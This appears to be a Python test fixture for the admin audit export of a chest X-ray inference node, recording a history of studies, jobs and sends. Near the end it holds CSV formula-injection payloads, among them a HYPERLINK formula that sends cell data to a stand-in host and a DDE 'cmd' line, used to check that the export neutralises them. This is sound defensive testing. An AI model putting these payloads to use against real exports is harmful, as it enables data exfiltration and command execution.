"""A recorded history of studies, written the way the node writes it, for the admin tests."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from storage import audit, jobs, outbox
from storage.audit import Outcome
from storage.database import Database
from storage.schema import Job, JobState, OutboxItem, Study, StudyState
from storage.studies import InstanceHeader, add_instance

DAY1 = datetime(2026, 3, 2, tzinfo=UTC)
DAY2 = DAY1 + timedelta(days=1)
REFERENCE = "cxrnode-untrained-reference@0.1.0+0123456789ab"
OTHER = "chest-densenet@2.0.0+fedcba987654"


@dataclass(frozen=True)
class StudyIds:
    study_uid: str
    accession: str
    patient_id: str

    @property
    def ids(self) -> dict[str, str]:
        return {
            "study_uid": self.study_uid,
            "accession": self.accession,
            "patient_id": self.patient_id,
        }


STUDY_A = StudyIds("1.2.826.1.1", "ACC1", "P1")  # done, effusion found
STUDY_B = StudyIds("1.2.826.1.2", "ACC2", "P2")  # failed: no image decodable
STUDY_C = StudyIds("1.2.826.1.3", "ACC3", "P1")  # next day, other model, one retried send
STUDY_D = StudyIds("1.2.826.1.4", "ACC4", "P3")  # skipped: lateral only


def probabilities(effusion: float) -> dict:
    return {
        "sop_uid": "x",
        "probabilities": {"Effusion": effusion, "Atelectasis": 0.2, "Nodule": 0.05},
        "present": ["Effusion"] if effusion >= 0.5 else [],
    }


class History:
    """Writes a study's life the way the node does: rows plus audit events, at given times."""

    def __init__(self, db: Database) -> None:
        self.db = db

    def event(self, session, at: datetime, action: str, outcome=Outcome.SUCCESS, **kwargs):
        event = audit.record(session, action, outcome, **kwargs)
        event.time = at
        return event

    def receive(self, who: StudyIds, at: datetime, n: int = 1, processable: bool = True):
        with self.db.transaction() as session:
            for i in range(n):
                header = InstanceHeader(
                    sop_uid=f"{who.study_uid}.{i}",
                    sop_class_uid="1.2.840.10008.5.1.4.1.1.1.1",
                    study_uid=who.study_uid,
                    series_uid=f"{who.study_uid}.100",
                    modality="DX",
                    patient_id=who.patient_id,
                    accession=who.accession,
                    transfer_syntax="1.2.840.10008.1.2.1",
                    view="frontal" if processable else "lateral",
                    processable=processable,
                    skip_reason=None if processable else "lateral view",
                )
                instance = add_instance(
                    session, header, relpath=f"{i}.dcm", size=10, sha256="0", calling_ae="ORTHANC"
                )
                instance.received_at = at
                instance.study.first_received_at = instance.study.last_received_at = at
                ids = {**who.ids, "sop_uid": header.sop_uid}
                self.event(
                    session,
                    at,
                    "instance.received",
                    actor_ae="ORTHANC",
                    actor_ip="127.0.0.1",
                    **ids,
                    detail={"size": 10},
                )
                if not processable:
                    self.event(
                        session,
                        at,
                        "instance.skipped",
                        Outcome.WARNING,
                        actor_ae="ORTHANC",
                        **ids,
                        detail={"reason": "lateral view"},
                    )

    def run(self, who: StudyIds, queued: datetime, model: str, effusion: float) -> int:
        with self.db.transaction() as session:
            study = session.query(Study).filter_by(study_uid=who.study_uid).one()
            job = jobs.queue_run(session, study)
            job.created_at = queued
            session.flush()
            self.event(session, queued, "study.queued", **who.ids, detail={"run": job.run})
        with self.db.transaction() as session:
            job = jobs.claim_next(session)
            job.state = JobState.SENDING
            job.model_id = model
            job.result = {"images": [probabilities(effusion)]}
            for kind, uid in (("SR", "9.1"), ("SC", "9.2")):
                outbox.add(session, job.id, "ORTHANC@127.0.0.1:4242", kind, f"{uid}.{job.id}", "p")
            self.event(
                session,
                queued + timedelta(seconds=5),
                "inference.completed",
                **who.ids,
                detail={"run": job.run, "model": model, "images": [probabilities(effusion)]},
            )
            return job.id

    def deliver(self, who: StudyIds, job_id: int, at: datetime, fail_first: bool = False):
        with self.db.transaction() as session:
            job = session.get(Job, job_id)
            for item in session.query(OutboxItem).filter_by(job_id=job_id):
                if fail_first:
                    outbox.mark_attempt_failed(item, "refused", timedelta(seconds=1))
                    self.event(
                        session,
                        at - timedelta(seconds=2),
                        "result.send_failed",
                        Outcome.FAILURE,
                        **who.ids,
                        detail={"destination": item.destination, "error": "refused", "attempt": 1},
                    )
                    fail_first = False
                outbox.mark_sent(item)
                self.event(session, at, "result.sent", **who.ids, detail={"kind": item.kind})
            assert jobs.finish_if_delivered(session, job)
            job.updated_at = at
            self.event(session, at, "study.done", **who.ids, detail={"run": job.run})

    def fail(self, who: StudyIds, at: datetime, reason: str):
        with self.db.transaction() as session:
            study = session.query(Study).filter_by(study_uid=who.study_uid).one()
            job = jobs.queue_run(session, study)
            session.flush()
            self.event(session, at, "study.queued", **who.ids, detail={"run": job.run})
            job.state = JobState.RUNNING  # claimed: a run fails only once a worker has it
            jobs.fail(session, job, reason)
            self.event(
                session, at, "job.failed", Outcome.FAILURE, **who.ids, detail={"reason": reason}
            )

    def skip(self, who: StudyIds, at: datetime):
        with self.db.transaction() as session:
            study = session.query(Study).filter_by(study_uid=who.study_uid).one()
            study.state = StudyState.SKIPPED
            self.event(session, at, "study.skipped", Outcome.WARNING, **who.ids, detail={})

    def report(self, who: StudyIds, at: datetime):
        with self.db.transaction() as session:
            self.event(
                session,
                at,
                "hl7.received",
                actor_ip="10.0.0.7",
                accession=who.accession,
                patient_id=who.patient_id,
                detail={"ack": "AA", "message_type": "ORU^R01", "message_id": "MSG1"},
            )


def record_history(h: History) -> None:
    """The four studies of the ``history`` fixture."""
    db = h.db
    h.report(STUDY_A, DAY1 + timedelta(hours=9, minutes=59))
    h.receive(STUDY_A, DAY1 + timedelta(hours=10), n=2)
    job = h.run(STUDY_A, DAY1 + timedelta(hours=10, seconds=10), REFERENCE, 0.81)
    h.deliver(STUDY_A, job, DAY1 + timedelta(hours=10, seconds=30))
    h.receive(STUDY_B, DAY1 + timedelta(hours=11))
    h.fail(
        STUDY_B, DAY1 + timedelta(hours=11, seconds=12), "no image of the study could be decoded"
    )
    with db.transaction() as session:
        h.event(
            session,
            DAY1 + timedelta(hours=12),
            "association.rejected",
            Outcome.FAILURE,
            actor_ae="INTRUDER",
            actor_ip="10.9.9.9",
            detail={"reason": "calling AE title not allowed"},
        )
    h.receive(STUDY_C, DAY2 + timedelta(hours=9))
    job = h.run(STUDY_C, DAY2 + timedelta(hours=9, seconds=10), OTHER, 0.3)
    h.deliver(STUDY_C, job, DAY2 + timedelta(hours=9, minutes=1), fail_first=True)
    h.receive(STUDY_D, DAY2 + timedelta(hours=10), processable=False)
    h.skip(STUDY_D, DAY2 + timedelta(hours=10, seconds=11))


FORMULAS = {
    "patient_id": "=1+2",
    "accession": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "actor_ae": "@SUM(A1)",
    "actor_user": "+cmd|' /C calc'!A0",
    "series_uid": "-2+3",
    "sop_uid": "\t=1+2",
    "study_uid": "\r=1+2",
}


def record_formulas(db: Database) -> None:
    """An event whose received identifiers are spreadsheet formulas."""
    with db.transaction() as session:
        audit.record(session, "instance.refused", audit.Outcome.FAILURE, **FORMULAS)


def assert_formulas_neutralised(exported: str) -> None:
    (row,) = [r for r in csv.DictReader(io.StringIO(exported)) if r["action"] == "instance.refused"]
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value, field  # read back: text, the value whole after "'"
